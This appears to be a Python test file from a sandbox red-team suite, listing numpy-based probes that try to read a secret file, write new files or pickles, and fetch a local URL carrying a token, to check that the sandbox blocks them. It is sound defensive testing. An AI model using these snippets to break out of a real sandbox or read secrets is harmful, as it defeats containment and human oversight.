"""Attacks through numpy, which a program needs: its functions that read and write files, or build pickles."""

from tests.sandbox.redteam.attack import Attack
from tests.sandbox.redteam.proofs import changes, leaks, reaches

_SUBJECT = "numpy"
_NUMPY = "import numpy as np\n"


def _attack(name: str, source: str, *, reads: bool, secret: str = "file", late: bool = False) -> Attack:
    proof = leaks(secret) if reads else changes("new")
    return Attack(name, _SUBJECT, _NUMPY + source, proof, imports_late=late, uses_way_in=False)


ATTACKS = (
    _attack("np.fromfile", "print(bytes(np.fromfile(aim['secret'], np.uint8, 64)))\n", reads=True),
    _attack(
        "np.memmap", "print(bytes(np.memmap(aim['secret'], np.uint8, 'r')[:64]))\n", reads=True, late=True
    ),
    _attack(
        "np.loadtxt", "print(np.loadtxt(aim['secret'], dtype='U64', max_rows=1, delimiter=','))\n", reads=True
    ),
    _attack("np.genfromtxt", "print(np.genfromtxt(aim['numbers']).astype(int))\n", reads=True, secret="size"),
    _attack(
        "np.fromregex",
        "print(np.fromregex(aim['numbers'], r'# (\\S+)', [('word', 'S64')]))\n",
        reads=True,
    ),
    _attack("np.save", "np.save(aim['new'], np.arange(3))\n", reads=False),
    _attack("np.savetxt", "np.savetxt(aim['new'], np.arange(3))\n", reads=False),
    _attack("ndarray.tofile", "np.arange(3).tofile(aim['new'])\n", reads=False),
    _attack("ndarray.dump, a pickle", "np.arange(3).dump(aim['new'])\n", reads=False),
    _attack(
        "np.memmap that makes a file",
        "np.memmap(aim['new'], np.uint8, 'w+', shape=8)[:] = 1\n",
        reads=False,
        late=True,
    ),
    Attack(
        "fetch a URL with numpy's DataSource",
        _SUBJECT,
        _NUMPY + "url = f\"http://127.0.0.1:{aim['tcp_port']}/{aim['token']}\"\n"
        "np.lib.npyio.DataSource(None).open(url)\n",
        reaches,
        uses_way_in=False,
        imports_late=True,
    ),
)
